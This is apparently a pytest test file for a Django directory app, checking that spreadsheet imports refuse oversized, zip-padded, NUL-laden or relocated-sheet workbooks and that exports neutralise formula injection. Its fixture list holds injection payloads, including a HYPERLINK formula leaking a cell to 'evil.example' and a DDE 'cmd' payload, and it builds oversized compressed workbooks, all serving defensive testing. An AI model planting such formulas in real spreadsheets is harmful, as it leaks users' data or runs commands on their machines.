"""Spreadsheets built to hurt: too long, zip bombs, formulas, NUL characters."""

import csv
import io
import re
import zipfile

import pytest
from django.utils import translation
from import_export.formats.base_formats import XLSX as LibraryXLSX
from openpyxl import Workbook, load_workbook
from pytest_django.asserts import assertContains

from enterprises.models import DirectoryImport, Enterprise
from tests.enterprises.test_import import (
    CSV,
    EXPORT_URL,
    HEADER,
    ROWS,
    XLSX,
    _all_fields,
    csv_bytes,
    upload,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '==HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def xlsx_with_rows(count: int) -> bytes:
    """A real workbook whose sheet holds `count` data rows below the header.

    Written straight as XML: openpyxl would take a minute for 200,000 rows.
    """
    workbook = Workbook()
    workbook.active.append(HEADER.split(","))
    buffer = io.BytesIO()
    workbook.save(buffer)
    header = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    row = '<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>Lamp {n}</t></is></c></row>'
    rows = "".join(row.format(n=number) for number in range(2, count + 2))
    sheet = header.replace("</row>", "</row>" + rows, 1)
    # A reader reads as far as the sheet's declared dimension.
    sheet = re.sub(
        r'<dimension ref="[^"]*"', f'<dimension ref="A1:J{count + 1}"', sheet
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(buffer) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = sheet.encode()
            target.writestr(member.filename, data)
    return out.getvalue()


@pytest.fixture
def library_never_reads_the_file(monkeypatch):
    """Fails the test if the spreadsheet library starts reading the upload."""

    def refuse(self, in_stream):
        raise AssertionError("the file was read before it was refused")

    monkeypatch.setattr(LibraryXLSX, "create_dataset", refuse)


def test_an_xlsx_of_200000_rows_is_refused_before_it_is_read(
    admin_client, library_never_reads_the_file
):
    content = xlsx_with_rows(200_000)
    assert len(content) < 2 * 1024 * 1024  # small on the wire: it is compressed

    preview = upload(admin_client, content, name="big.xlsx", file_format=XLSX)

    assertContains(preview, "This file has 200000 rows; at most 20000 can be")
    assert preview.context.get("confirm_form") is None
    assert not Enterprise.objects.exists()


def test_an_xlsx_that_unpacks_too_large_is_refused_before_it_is_read(
    admin_client, settings, library_never_reads_the_file
):
    settings.CLUSTER_IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
    buffer = io.BytesIO(xlsx_with_rows(1))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * (2 * 1024 * 1024))

    preview = upload(admin_client, buffer.getvalue(), name="x.xlsx", file_format=XLSX)

    assertContains(preview, "This spreadsheet unpacks to 2.0")
    assertContains(preview, "the limit is 1.0")


def test_a_csv_over_the_row_limit_is_refused_and_one_at_it_imports(
    admin_client, settings, import_file
):
    settings.CLUSTER_IMPORT_MAX_ROWS = len(ROWS)
    extra = "Third Lamps,,,,Guzhen,,,,no,no"

    refused = upload(admin_client, csv_bytes([*ROWS, extra]))
    assertContains(refused, "This file has 3 rows; at most 2 can be imported")
    assert refused.context.get("confirm_form") is None

    import_file(csv_bytes())
    assert Enterprise.objects.count() == 2


def test_an_xlsx_at_the_row_limit_imports(settings, import_file):
    settings.CLUSTER_IMPORT_MAX_ROWS = 1
    workbook = Workbook()
    workbook.active.append(HEADER.split(","))
    workbook.active.append(["Pearl Light", "", "", "", "Xiaolan"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    import_file(buffer.getvalue(), name="x.xlsx", file_format=XLSX)

    assert Enterprise.objects.get().name == "Pearl Light"


def test_a_nul_character_in_a_cell_is_an_error_of_its_row(check):
    rows = [ROWS[0], "Jade\x00 Lighting,翡翠照明,,,henglan,,,,no,1"]

    preview = check(csv_bytes(rows))

    job = preview.context["job"]
    assert job.status == "refused"
    assert job.report["error_rows"] == [3]  # Excel's row: the header is row 1
    assert "NUL character" in " ".join(job.report["rows"][1]["errors"])
    assertContains(preview, "This cell holds a NUL character")
    assert not Enterprise.objects.exists()


@pytest.fixture
def enterprise_with_formulas(enterprise_factory):
    with translation.override("en"):
        return enterprise_factory(
            name=FORMULAS[0],
            name_zh=FORMULAS[1],
            description=FORMULAS[2],
            address=FORMULAS[3],
            description_zh_hans=FORMULAS[4],
        )


def test_no_exported_xlsx_cell_is_a_formula(admin_client, enterprise_with_formulas):
    exported = admin_client.post(
        EXPORT_URL, {"format": XLSX, "resource": "0", **_all_fields()}
    ).content

    sheet = load_workbook(io.BytesIO(exported)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert set(FORMULAS) <= values  # shown exactly as typed


def test_exported_csv_cells_that_start_a_formula_are_text_and_import_back(
    admin_client, enterprise_with_formulas, import_file
):
    exported = admin_client.post(
        EXPORT_URL, {"format": CSV, "resource": "0", **_all_fields()}
    ).content

    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []
    assert {"'" + formula for formula in FORMULAS} <= set(cells)

    import_file(exported)
    again = Enterprise.objects.get()
    assert [
        again.name,
        again.name_zh,
        again.description_en,
        again.address,
        again.description_zh_hans,
    ] == FORMULAS


def moved_sheet(content: bytes, part: str) -> bytes:
    """The workbook with its sheet moved to `part`, its relationship and content
    type pointing there: a reader follows them."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            data = source.read(member.filename)
            name = member.filename
            if name == "xl/worksheets/sheet1.xml":
                name = part
            elif name in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                data = data.replace(b"worksheets/sheet1.xml", part[3:].encode())
                data = data.replace(b"/xl/" + part[3:].encode(), b"/" + part.encode())
            target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    "part",
    ["xl/sheets/sheet1.xml", "xl/worksheets/sheet1.XML", "xl/data/rows.bin"],
)
def test_a_sheet_anywhere_the_workbook_points_counts_against_the_limit(
    admin_client, settings, part
):
    settings.CLUSTER_IMPORT_MAX_ROWS = 100
    content = moved_sheet(xlsx_with_rows(500), part)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "xl/worksheets/sheet1.xml" not in archive.namelist()
    # The library reads every row of it.
    assert len(LibraryXLSX().create_dataset(content)) == 500

    preview = upload(admin_client, content, name="x.xlsx", file_format=XLSX)

    assertContains(preview, "This file has 500 rows; at most 100 can be")
    assert not DirectoryImport.objects.exists()


def test_rows_numbered_far_apart_count_as_the_rows_a_reader_yields(
    admin_client, settings
):
    settings.CLUSTER_IMPORT_MAX_ROWS = 100
    content = xlsx_with_rows(1)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    far = b'<row r="5000"><c r="A5000" t="inlineStr"><is><t>x</t></is></c></row>'
    sheet = sheet.replace(b"</sheetData>", far + b"</sheetData>")
    sheet = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:J5000"', sheet)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w") as target,
    ):
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = sheet
            target.writestr(member.filename, data)
    assert len(LibraryXLSX().create_dataset(out.getvalue())) == 4999

    preview = upload(admin_client, out.getvalue(), name="x.xlsx", file_format=XLSX)

    assertContains(preview, "This file has 4999 rows; at most 100 can be")
